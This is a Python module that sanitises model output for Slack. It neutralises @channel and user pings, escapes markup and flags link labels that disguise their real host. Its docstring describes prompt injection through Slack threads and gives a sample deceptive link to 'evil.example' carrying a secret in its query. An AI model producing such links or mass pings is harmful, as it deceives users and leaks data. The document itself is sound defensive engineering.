"""What model text may never do in Slack, whichever way it is shown: ping, broadcast, forge markup or mislead.

Model output is untrusted: injected text in a thread or a pinned document can make a model echo ``<!channel>``,
``<@U123>`` or a link whose label names one site while it points to another
(``[https://sso.acme.com](https://evil.example/?q=SECRET)``). The renderers call these helpers on every piece of
prose (never inside code, which is shown literally and escaped instead), so the rules hold for ``chat.update``
text, Block Kit sections and native streams alike.
"""

from __future__ import annotations

import contextlib
import re
from urllib.parse import urlsplit

# <!channel>, <!here>, <!everyone>, <!subteam^ID|@team>, with the spacing a model might add.
_SPECIAL = re.compile(r"<\s*!\s*(channel|here|everyone|subteam\^[^>|]*)\s*(?:\|([^>]*))?>", re.IGNORECASE)
_USER = re.compile(r"<\s*@\s*([UWB][A-Z0-9]{2,})\s*(?:\|([^>]*))?>")
_BARE_BROADCAST = re.compile(r"(?<![\w@])@(channel|here|everyone)\b", re.IGNORECASE)
ZERO_WIDTH_SPACE = "\u200b"

# Something a reader takes for a web address: a scheme, "www.", or a dotted name ending in a common TLD. Letters
# are Unicode-aware, so a look-alike name ("аpple.com" with a Cyrillic "а") is still seen as a host.
_LABEL = r"[^\W_](?:[\w-]{0,61}[^\W_])?"
_URLISH = re.compile(
    r"(?:[a-z][a-z0-9+.-]*://|www\.)[^\s/?#<>]+"  # scheme://host or www.host
    rf"|(?<![\w@.-])(?:{_LABEL}\.)+"
    r"(?:com|org|net|io|dev|app|ai|co|edu|gov|info|biz|me|us|uk|de|fr|nl|eu|ch|se|no|es|it|jp|cn|ru|in|br|au|ca|"
    r"xyz|site|online|cloud|tech|link|page|example|test|local|internal|corp)(?![\w-])",
    re.IGNORECASE,
)
_EMAIL = re.compile(r"[\w.+-]+@((?:[^\W_][\w-]*\.)+[^\W\d_]{2,})")
ALLOWED_SCHEMES = frozenset({"http", "https", "mailto"})


def escape_mrkdwn(text: str) -> str:
    """Slack's escaping: only ``&``, ``<`` and ``>`` are control characters in message text."""
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def unescape_mrkdwn(text: str) -> str:
    """The inverse of ``escape_mrkdwn`` (what a Slack client displays)."""
    return text.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")


def is_mention_markup(text: str) -> bool:
    """``<!here>``, ``<!subteam^…|…>`` or ``<@U…>``: Slack control sequences a parser might take for an address."""
    return bool(_SPECIAL.fullmatch(text) or _USER.fullmatch(text))


def defang(text: str) -> str:
    """Prose without broadcasts or pings: ``<!here>`` → ``@​here``, ``<@U1|bob>`` → ``@bob``; readable, inert."""

    def special(match: re.Match[str]) -> str:
        name = match.group(1).split("^")[0].lower()
        label = (match.group(2) or "").strip().lstrip("@")
        return f"@{ZERO_WIDTH_SPACE}{label if name == 'subteam' and label else name}"

    def user(match: re.Match[str]) -> str:
        label = (match.group(2) or "").strip().lstrip("@")
        return f"@{label or match.group(1)}"

    text = _SPECIAL.sub(special, text)
    text = _USER.sub(user, text)
    # A zero-width space keeps "@channel" readable but stops any client-side linkification.
    return _BARE_BROADCAST.sub(lambda m: f"@{ZERO_WIDTH_SPACE}{m.group(1)}", text)


def _host(value: str) -> str:
    """Lower-case host of a URL-ish string, ``www.`` dropped, non-ASCII names in their IDNA (punycode) form."""
    candidate = value if "://" in value else f"//{value}"
    try:
        host = (urlsplit(candidate).hostname or "").rstrip(".")
    except ValueError:
        return ""
    with contextlib.suppress(UnicodeError):  # not IDNA-encodable: compared as is, which can only look *more* different
        host = host.encode("idna").decode("ascii")
    return host.lower().removeprefix("www.")


def shown_target(url: str) -> str:
    """What a reader should see to know where a link really goes: its host, or a mailto's address."""
    parts = urlsplit(url)
    if parts.scheme.lower() == "mailto":
        return parts.path
    return _host(url) or url


def label_misleads(label: str, url: str) -> bool:
    """True when the label looks like an address other than the link's real one.

    A label naming the real host (or a parent domain of it: ``acme.com`` for ``docs.acme.com``) is fine; a
    label naming any other host, or an e-mail address other than a ``mailto:``'s own, is not.
    """
    parts = urlsplit(url)
    mailto = parts.scheme.lower() == "mailto"
    target = "" if mailto else _host(url)
    for match in _EMAIL.finditer(label):
        if mailto:
            if match.group(0).lower() != parts.path.lower():
                return True
        elif not _same_site(target, _host(match.group(1))):
            return True
    without_emails = _EMAIL.sub(" ", label)
    for match in _URLISH.finditer(without_emails):
        named = _host(match.group(0))
        if named and (mailto or not _same_site(target, named)):
            return True
    return False


def _same_site(target: str, named: str) -> bool:
    return bool(target) and (target == named or target.endswith("." + named))


def link_scheme_allowed(url: str) -> bool:
    try:
        return urlsplit(url).scheme.lower() in ALLOWED_SCHEMES
    except ValueError:
        return False
